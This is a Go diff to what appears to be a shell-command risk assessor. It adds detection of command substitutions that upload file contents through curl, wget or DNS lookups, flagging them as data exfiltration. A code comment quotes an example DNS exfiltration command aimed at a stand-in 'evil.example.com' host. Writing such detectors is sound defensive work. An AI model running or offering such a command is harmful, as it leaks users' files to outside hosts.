@@ -1016,7 +1016,7 @@ func (as *assessor) contacts(host string, level RiskLevel) {
 func (as *assessor) fetch(prog string, args []string) {
 	var hosts []string
 	for _, a := range args {
-		if h := urlHost(a); h != "" {
+		if h := wordURLHost(a); h != "" {
 			hosts = append(hosts, h)
 		}
 	}
@@ -1048,6 +1048,7 @@ func (as *assessor) fetch(prog string, args []string) {
 			as.reads(file)
 		}
 	}
+	as.substitutedUploads(args, dest)
 	if prog == "curl" || prog == "wget" {
 		for i, a := range args {
 			if (a == "-o" || a == "--output" || a == "-O" && prog == "wget") && i+1 < len(args) {
@@ -1075,6 +1076,77 @@ func httpieFile(item string) string {
 		return ""
 	}
 	return item[at+len(sep):]
+}
+
+// wordURLHost is the host of a URL word, also one that expands a command
+// substitution or a variable after its host ("https://h/?q=$(...)", kept
+// as its source text): "" when the host itself is not literal.
+func wordURLHost(w string) string {
+	if h := urlHost(w); h != "" {
+		return h
+	}
+	w = strings.TrimLeft(w, `"'`)
+	cut := strings.IndexAny(w, "$`")
+	if cut < 0 {
+		return ""
+	}
+	scheme := strings.Index(w, "://")
+	if scheme < 0 || scheme > cut {
+		return ""
+	}
+	end := strings.IndexAny(w[scheme+3:], "/?#")
+	if end < 0 || scheme+3+end > cut {
+		return "" // the host goes on past the expansion
+	}
+	return urlHost(w[:scheme+3+end])
+}
+
+// substitutedUploads flags a command substitution in a network command's
+// arguments whose command outputs files' contents (a producerStage: cat,
+// base64, tar...): its output is sent to dest, as a pipe into the command
+// would be.
+func (as *assessor) substitutedUploads(args []string, dest string) {
+	for _, a := range args {
+		for _, inner := range substitutions(a) {
+			if producerStage().MatchString(inner) {
+				level := RiskHigh
+				if !strings.HasPrefix(dest, "DNS") {
+					level = remoteLevel(dest)
+				}
+				as.stoppedIf(as.offline(), level, DataExfiltration, fmt.Sprintf("uploads the output of `%s` to %s", EscapeText(strings.TrimSpace(inner)), dest))
+			}
+		}
+	}
+}
+
+// substitutions are the commands of a word's $(...) and `...`
+// substitutions, as written (outermost only).
+func substitutions(w string) []string {
+	var out []string
+	for i := 0; i < len(w); i++ {
+		switch {
+		case strings.HasPrefix(w[i:], "$("):
+			depth, j := 1, i+2
+			for ; j < len(w) && depth > 0; j++ {
+				switch w[j] {
+				case '(':
+					depth++
+				case ')':
+					depth--
+				}
+			}
+			if depth == 0 {
+				out = append(out, w[i+2:j-1])
+			}
+			i = j - 1
+		case w[i] == '`':
+			if end := strings.IndexByte(w[i+1:], '`'); end >= 0 {
+				out = append(out, w[i+1:i+1+end])
+				i += end + 1
+			}
+		}
+	}
+	return out
 }
 
 var sshHostArg = lazyre.New(`^(?:[\w.+-]+@)?([A-Za-z0-9][\w.-]*)(?::.*)?$`)
@@ -1125,6 +1197,9 @@ func (as *assessor) remote(prog string, args []string) {
 			as.contacts(m[1], RiskMedium)
 		}
 	default:
+		// A name built from a file's contents leaves in the lookup itself
+		// (dig $(xxd -p < f).evil.example.com).
+		as.substitutedUploads(args, "DNS, in a name ("+prog+")")
 		// The first operand that is not a bare number (a count, a port).
 		for _, op := range ops {
 			if looksNumeric(op) && !strings.Contains(op, ".") {
